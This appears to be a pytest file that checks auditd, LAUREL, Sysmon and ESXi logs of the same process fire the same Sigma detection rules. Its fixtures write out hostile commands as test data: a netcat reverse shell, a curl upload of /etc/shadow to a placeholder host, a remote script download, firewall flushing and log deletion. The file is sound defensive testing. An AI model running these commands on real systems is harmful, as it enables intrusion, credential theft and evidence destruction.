"""From a kernel's records to a rule that fires: auditd, joined, beside LAUREL and Sysmon."""

import posixpath
from collections.abc import Callable, Sequence
from datetime import UTC, datetime
from pathlib import Path
from xml.sax.saxutils import escape

import orjson
import pytest
import yaml

from detect.engine import Engine
from normalize.audit.record import read_record
from normalize.frame import Normalizer
from normalize.parse import parse_record
from normalize.registry import Registry
from normalize.step import NormalizeStep
from samlog.bus.base import Message
from samlog.event import Event

NOW = datetime(2026, 1, 10, 15, 0, tzinfo=UTC)
STAMP = "msg=audit(1768048621.204:{}):"
COMMANDS = (
    ("/usr/bin/wget", "wget http://192.0.2.80/x.sh -O /tmp/x.sh"),
    ("/usr/bin/base64", "base64 -d /tmp/blå"),
    ("/usr/bin/crontab", "crontab -l"),
    ("/usr/bin/cat", "cat /etc/passwd"),
    ("/usr/bin/chattr", "chattr -i /etc/hosts"),
    ("/usr/sbin/iptables", "iptables -F"),
    ("/usr/bin/nc", "nc -e /bin/sh 192.0.2.80 4444"),
    ("/usr/bin/python3", "python3 -c import pty;pty.spawn(chr(47))"),
    ("/usr/bin/systemctl", "systemctl stop firewalld"),
    ("/usr/bin/esxcli", "esxcli vm process list"),
    ("/usr/bin/sudo", "sudo -u#-1 id"),
    ("/usr/bin/curl", "curl -F file=@/etc/shadow http://192.0.2.80"),
    ("/usr/bin/touch", "touch -t 201501010000 /srv/søren/a"),
    ("/usr/bin/rm", "rm -f /var/log/syslog"),
)


def value(text: str) -> str:
    """Writes a value as the kernel does: in quotes, or in hex where a byte asks for it."""
    plain = all(33 <= ord(c) <= 126 and c != '"' for c in text)
    return f'"{text}"' if plain else text.encode().hex().upper()


def audit_records(image: str, command: str, serial: int = 1) -> list[str]:
    stamp, words = STAMP.format(serial), command.split(" ")
    arguments = " ".join(f"a{n}={value(word)}" for n, word in enumerate(words))
    return [
        f"type=SYSCALL {stamp} arch=c000003e syscall=59 success=yes exit=0 a0=55 a1=56 a2=57 a3=8 "
        f"items=2 ppid=11 pid=12 auid=1004 uid=0 gid=0 euid=0 tty=pts1 ses=12 "
        f'comm="{posixpath.basename(image)}" exe="{image}" key="exec"',
        f"type=EXECVE {stamp} argc={len(words)} {arguments}",
        f"type=CWD {stamp} cwd={value('/srv/søren')}",
        f'type=PATH {stamp} item=0 name="{image}" inode=1 nametype=NORMAL',
        f"type=PROCTITLE {stamp} proctitle={command.replace(' ', chr(0)).encode().hex().upper()}",
    ]


def laurel_of(lines: Sequence[str]) -> bytes:
    """Writes the event of audit records as LAUREL does: numbers as such, arguments as a list."""
    sections: dict[str, list[dict[str, object]]] = {}
    for line in lines:
        record = read_record(line)
        assert record is not None
        fields: dict[str, object] = {
            key: int(text) if text.isdecimal() else text for key, text in record.fields.items()
        }
        listed = [fields.pop(f"a{n}") for n in range(16) if f"a{n}" in fields]
        if record.type == "SYSCALL":
            fields |= {"ARGV": [f"0x{one}" for one in listed], "arch": f"0x{fields['arch']}"}
        elif listed:
            fields["ARGV"] = [str(one) for one in listed]
        elif record.inner:
            fields["msg"] = line.partition("msg='")[2].rstrip("'")
        elif record.type == "PROCTITLE":
            fields = {"ARGV": record.fields["proctitle"].split("\0")}
        sections.setdefault(record.type, []).append(fields)
    single = ("SYSCALL", "EXECVE", "CWD", "PROCTITLE")
    written = {kind: found[0] if kind in single else found for kind, found in sections.items()}
    return orjson.dumps({"ID": "1768048621.204:1"} | written)


def interpreted(image: str, command: str) -> list[str]:
    """Returns the lines of `audit_records` as ``ausearch -i`` prints them."""
    stamp, words = "msg=audit(2026-01-10 12:37:01.204:1) :", command.split(" ")
    arguments = " ".join(f"a{n}={word}" for n, word in enumerate(words))
    return [
        f"type=PROCTITLE {stamp} proctitle={command} ",
        f"type=PATH {stamp} item=0 name={image} inode=1 nametype=NORMAL ",
        f"type=CWD {stamp} cwd=/srv/søren ",
        f"type=EXECVE {stamp} argc={len(words)} {arguments} ",
        f"type=SYSCALL {stamp} arch=x86_64 syscall=execve success=yes exit=0 a0=0x55 a1=0x56 "
        "a2=0x57 a3=0x8 items=2 ppid=11 pid=12 auid=søren uid=root gid=root euid=root tty=pts1 "
        f"ses=12 comm={posixpath.basename(image)} exe={image} key=exec ",
    ]


def sysmon_line(image: str, command: str) -> str:
    data = {
        "Image": image,
        "CommandLine": command,
        "CurrentDirectory": "/srv/søren",
        "User": "root",
        "ProcessId": "12",
        "ParentProcessId": "11",
    }
    inner = "".join(f'<Data Name="{key}">{escape(text)}</Data>' for key, text in data.items())
    return (
        "Jan 10 13:37:01 web1 sysmon: <Event><System>"
        '<Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/>'
        "<EventID>1</EventID><Version>5</Version><Level>4</Level><Task>1</Task><Opcode>0</Opcode>"
        '<Keywords>0x8</Keywords><TimeCreated SystemTime="2026-01-10T12:37:01.2Z"/>'
        "<EventRecordID>7</EventRecordID><Channel>Linux-Sysmon/Operational</Channel>"
        f"<Computer>web1</Computer></System><EventData>{inner}</EventData></Event>"
    )


@pytest.fixture(scope="module")
def normalizer() -> Normalizer:
    return Normalizer({"enheda": {}}, Registry())


Audit = Callable[[Sequence[str]], Event]


@pytest.fixture(scope="module")
def audit(normalizer: Normalizer) -> Audit:
    """Returns the one event that audit records become on their way through the stage."""

    def made(lines: Sequence[str]) -> Event:
        step = NormalizeStep(normalizer)
        for offset, line in enumerate(lines):
            step.process(Message("samlog.raw.enheda", 0, offset, b"k", line.encode(), {}, 1))
        (record,) = step.flush()
        event: Event = orjson.loads(record.value)
        return event

    return made


def fired(engine: Engine, event: Event) -> set[str]:
    return {match.rule.title for match in engine.match(event)}


def processes(engine: Engine, event: Event) -> set[str]:
    """Returns the rules on created processes that fired."""
    return {
        match.rule.title
        for match in engine.match(event)
        if match.rule.logsource[1] == "process_creation"
    }


@pytest.mark.parametrize(("image", "command"), COMMANDS)
def test_auditd_and_sysmon_of_one_process_fire_the_same_rules(
    ecs_engine: Engine, audit: Audit, normalizer: Normalizer, image: str, command: str
) -> None:
    (sysmon,) = parse_record(sysmon_line(image, command).encode(), normalizer, received=NOW)

    by_audit = processes(ecs_engine, audit(audit_records(image, command)))

    assert by_audit == processes(ecs_engine, sysmon)


@pytest.mark.parametrize(("image", "command"), COMMANDS)
def test_laurel_and_auditd_of_one_process_fire_the_same_rules(
    ecs_engine: Engine, audit: Audit, normalizer: Normalizer, image: str, command: str
) -> None:
    records = audit_records(image, command)
    (by_laurel,) = parse_record(laurel_of(records), normalizer, received=NOW)

    by_audit = fired(ecs_engine, audit(records))

    assert fired(ecs_engine, by_laurel) == by_audit


@pytest.mark.parametrize(("image", "command"), COMMANDS)
def test_interpreted_and_raw_records_of_one_process_fire_the_same_rules(
    ecs_engine: Engine, audit: Audit, image: str, command: str
) -> None:
    by_raw = fired(ecs_engine, audit(audit_records(image, command)))

    assert fired(ecs_engine, audit(interpreted(image, command))) == by_raw


def test_rules_on_a_parent_fire_on_laurel_which_names_it(
    ecs_engine: Engine, audit: Audit, normalizer: Normalizer, sigmahq: Path
) -> None:
    (found,) = sigmahq.rglob("proc_creation_lnx_webshell_detection.yml")
    title = yaml.safe_load(found.read_text(encoding="utf-8"))["title"]
    records = audit_records("/usr/bin/whoami", "whoami")
    document = orjson.loads(laurel_of(records))
    document["SYSCALL"]["PPID"] = {"comm": "nginx", "exe": "/usr/sbin/nginx", "ppid": 1}
    (by_laurel,) = parse_record(orjson.dumps(document), normalizer, received=NOW)

    assert title in processes(ecs_engine, by_laurel)
    assert title not in processes(ecs_engine, audit(records))


def test_the_commands_of_the_pairs_fire_rules_at_all(ecs_engine: Engine, audit: Audit) -> None:
    silent = [c for i, c in COMMANDS if not processes(ecs_engine, audit(audit_records(i, c)))]
    assert len(silent) <= 2, silent


def test_an_execve_record_whose_syscall_was_lost_still_fires(
    ecs_engine: Engine, audit: Audit
) -> None:
    lost = audit(audit_records("/usr/bin/chattr", "chattr -i /etc/hosts")[1:2])
    assert lost["event.action"] == "execve"
    assert processes(ecs_engine, lost | {"process.executable": "/usr/bin/chattr"})


def syscall(number: int, extra: str = "", **fields: str) -> str:
    known = {"comm": '"x"', "exe": '"/usr/bin/x"', "euid": "0", "key": "(null)"} | fields
    pairs = " ".join(f"{key}={text}" for key, text in known.items())
    return (
        f"type=SYSCALL {STAMP.format(1)} arch=c000003e syscall={number} success=yes exit=0 "
        f"{extra or 'a0=1 a1=2 a2=3 a3=4'} items=1 ppid=1 pid=2 auid=1004 uid=0 gid=0 {pairs}"
    )


def path(name: str, kind: str = "NORMAL", item: int = 0) -> str:
    return f"type=PATH {STAMP.format(1)} item={item} name={value(name)} inode=5 nametype={kind}"


CWD = f'type=CWD {STAMP.format(1)} cwd="/"'
CASES: tuple[tuple[str, list[str]], ...] = (
    ("lnx_auditd_ld_so_preload_mod", [syscall(257), CWD, path("/etc/ld.so.preload")]),
    (
        "lnx_auditd_systemd_service_creation",
        [
            syscall(257),
            CWD,
            path("/etc/systemd/system/", "PARENT"),
            path("/etc/systemd/system/ond.service", "CREATE", 1),
        ],
    ),
    ("lnx_auditd_logging_config_change", [syscall(257), CWD, path("/etc/rsyslog.conf")]),
    ("lnx_auditd_load_module_insmod", [syscall(175, comm='"insmod"', exe='"/usr/bin/kmod"')]),
    (
        "lnx_auditd_network_service_scanning",
        [syscall(42, exe='"/usr/bin/nc"', key='"network_connect_4"')],
    ),
    ("lnx_auditd_web_rce", [syscall(59, euid="33", key='"detect_execve_www"')]),
    ("lnx_auditd_disable_aslr_protection", [syscall(135, "a0=40000 a1=2 a2=3 a3=4")]),
    ("lnx_auditd_create_account", [syscall(59, exe='"/usr/sbin/useradd"')]),
    (
        "lnx_auditd_susp_special_file_creation_via_mknod_syscall",
        [syscall(133, exe='"/usr/bin/mknod"')],
    ),
    ("lnx_auditd_susp_c2_commands", [syscall(59, key='"susp_activity"')]),
    ("lnx_auditd_chattr_immutable_removal", audit_records("/usr/bin/chattr", "chattr -i /x")),
    ("lnx_auditd_find_cred_in_files", audit_records("/usr/bin/grep", "grep password /etc")),
    ("lnx_auditd_user_discovery", audit_records("/usr/bin/whoami", "whoami")),
    ("lnx_auditd_data_compressed", audit_records("/usr/bin/zip", "zip a.zip b")),
    (
        "lnx_auditd_disable_system_firewall",
        [
            f"type=SERVICE_STOP {STAMP.format(1)} pid=1 uid=0 auid=4294967295 ses=4294967295 "
            'msg=\'unit=firewalld comm="systemd" exe="/usr/lib/systemd/systemd" res=success\''
        ],
    ),
)


@pytest.mark.parametrize(("rule", "lines"), CASES, ids=[case[0] for case in CASES])
def test_rules_on_audit_records_fire_on_what_normalise_makes(
    ecs_engine: Engine, normalizer: Normalizer, sigmahq: Path, rule: str, lines: list[str]
) -> None:
    (found,) = sigmahq.rglob(f"{rule}.yml")
    title = yaml.safe_load(found.read_text(encoding="utf-8"))["title"]
    (event,) = parse_record("\n".join(lines).encode(), normalizer, received=NOW)
    (by_laurel,) = parse_record(laurel_of(lines), normalizer, received=NOW)

    assert title in fired(ecs_engine, event)
    assert fired(ecs_engine, by_laurel) == fired(ecs_engine, event)


def test_a_connection_of_audit_records_fires_rules_on_connections(
    load: Callable[..., Engine], rule: Callable[..., dict[str, object]], audit: Audit
) -> None:
    source = {"product": "linux", "category": "network_connection"}
    wanted = {
        "Initiated": "true",
        "Image|endswith": "/nc",
        "DestinationIp": "198.51.100.25",
        "DestinationPort": 4444,
    }
    engine = load(rule({"selection": wanted}, logsource=source), mode="ecs")
    lines = [
        syscall(42, exe='"/usr/bin/nc"'),
        f"type=SOCKADDR {STAMP.format(1)} saddr=0200115CC63364190000000000000000",
    ]

    assert fired(engine, audit(lines)) == {"a rule under test"}


def test_a_created_file_is_found_by_its_whole_path(
    load: Callable[..., Engine], rule: Callable[..., dict[str, object]], audit: Audit
) -> None:
    source = {"product": "linux", "category": "file_event"}
    wanted = {"TargetFilename": "/srv/søren/.bashrc"}
    engine = load(rule({"selection": wanted}, logsource=source), mode="ecs")
    home = f"type=CWD {STAMP.format(1)} cwd={value('/srv/søren')}"
    lines = [syscall(257), home, path("./.bashrc", "CREATE")]

    assert fired(engine, audit(lines)) == {"a rule under test"}
    assert fired(engine, audit([*lines[:2], path("./.bashrc")])) == set()


@pytest.mark.parametrize(
    ("typed", "rule"),
    [
        ("esxcli vm process kill --type=force -w 7", "proc_creation_lnx_esxcli_vm_kill"),
        (
            "esxcli system account add -d=x -i=søren",
            "proc_creation_lnx_esxcli_user_account_creation",
        ),
        ("/bin/esxcli vm process list", "proc_creation_lnx_esxcli_vm_discovery"),
    ],
)
def test_what_was_typed_on_an_esxi_host_fires_rules_on_processes(
    ecs_engine: Engine, normalizer: Normalizer, sigmahq: Path, typed: str, rule: str
) -> None:
    (found,) = sigmahq.rglob(f"{rule}.yml")
    title = yaml.safe_load(found.read_text(encoding="utf-8"))["title"]
    line = f"<166>2026-01-10T12:37:09.123Z esx1 shell[2099]: [root]: {typed}"
    (event,) = parse_record(line.encode(), normalizer, received=NOW)

    assert title in fired(ecs_engine, event)
